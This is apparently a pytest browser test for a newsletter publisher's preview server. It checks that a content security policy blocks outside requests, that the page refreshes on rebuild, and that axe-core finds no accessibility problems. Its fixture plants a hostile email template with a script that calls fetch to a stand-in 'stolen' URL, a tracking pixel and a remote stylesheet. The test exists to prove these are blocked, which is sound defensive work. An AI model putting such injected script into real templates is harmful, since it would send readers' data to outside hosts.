"""The page of `preview --serve` in Chromium: it asks this machine only, runs no script of a digest, follows, and axe
has nothing to say.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from publisher.editions.mail_programs import lost_features, weigh
from publisher.editions.preview import Preview, Reader, preview_edition
from publisher.model.publication import Publication, Secrets
from publisher.theme.environment import environment_of
from publisher.web.live import serve_live
from publisher.web.preview_pages import show_digest, show_errors

pytestmark = pytest.mark.chromium


@pytest.fixture
def starter(tmp_path: Path) -> tuple[Publication, Preview]:
    from tests.judges.samples import NOW, starter_publication

    publication, articles = starter_publication(tmp_path / "starter")
    feed = publication.feeds[0]
    assert feed.newsletter is not None
    file = publication.templates / "email" / "masthead.html"
    file.parent.mkdir(parents=True)
    file.write_text(
        '<tr><td><h1>{{ heading }}</h1><img src="https://elsewhere.example/pixel.gif" alt="x" width="1">'
        '<script>document.title = "broken in"; fetch("https://elsewhere.example/stolen")</script>'
        '<style>@import "https://elsewhere.example/style.css";</style></td></tr>'
    )
    seen = preview_edition(
        publication,
        Secrets(signing=(b"a signing key of enough length..",)),
        environment_of(publication),
        feed,
        feed.newsletter,
        feed.newsletter.default_cadence,
        Reader(address="ana@example.com", name="Ana"),
        articles,
        number=1,
        now=NOW,
    )
    return publication, seen


def show(folder: Path, publication: Publication, seen: Preview) -> None:
    show_digest(
        folder,
        publication,
        seen,
        weight=weigh(seen.html, seen.text, seen.message, sizes={}),
        lost=lost_features(seen.html),
        sizes={"full": 20_000, "summary": 9_000},
        findings=(),
        faults=(),
        media=[(Path(file), target) for article in seen.articles for file, target in article.media],
    )


def test_the_page_asks_nobody_else_runs_nothing_and_follows(
    browser: Any, tmp_path: Path, starter: tuple[Publication, Preview]
) -> None:
    folder = tmp_path / "shown"
    folder.mkdir()
    publication, seen = starter
    show(folder, publication, seen)
    with serve_live(folder, 0) as live:
        page = browser.new_page(viewport={"width": 1600, "height": 900})
        asked: list[str] = []
        refused: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("requestfailed", lambda request: refused.append(request.url) if request.failure == "csp" else None)
        page.goto(live.url)
        page.wait_for_function("[...document.querySelectorAll('iframe')].some(frame => frame.offsetHeight > 2000)")
        assert page.title() == f"{seen.subject} · preview"
        page.wait_for_timeout(200)
        left = {url for url in asked if url not in refused and not url.startswith("data:")}
        hosts = {urlsplit(url).hostname for url in left}
        assert [url for url in refused if url.endswith("pixel.gif")], "the policy forbids it"
        assert not [url for url in asked if url.endswith("stolen")]
        assert hosts == {"127.0.0.1"}
        assert any(url.endswith("lighthouse.jpg") for url in asked), "our own pictures are shown from this machine"
        page.click("[data-panel=source]")
        assert page.locator("#source pre").is_visible()
        show_errors(folder, publication.root, "World", _fault())
        live.built()
        page.wait_for_selector(".fault")
        show(folder, publication, seen)
        live.built()
        page.wait_for_selector("#source pre:visible")  # what was chosen is chosen still
        page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_has_nothing_to_say_about_it(
    browser: Any, tmp_path: Path, starter: tuple[Publication, Preview], scheme: str
) -> None:
    from tests.judges.browser import AXE

    if not AXE.exists():
        pytest.skip("axe-core is missing: npm install --prefix tests/judges --omit=optional")
    folder = tmp_path / "shown"
    folder.mkdir()
    show(folder, *starter)
    with serve_live(folder, 0) as live:
        context = browser.new_context(color_scheme=scheme, bypass_csp=True)
        page = context.new_page()
        page.goto(live.url)
        page.add_script_tag(content=AXE.read_text("utf-8"))
        found = page.evaluate(
            "axe.run(document, {iframes: false}).then(done => done.violations.map(one => one.id + one.nodes[0].html))"
        )
        context.close()
    assert found == []


def _fault() -> Any:
    from publisher.model.errors import TemplateError

    return TemplateError("does not render", where="templates/email/masthead.html", line=1)
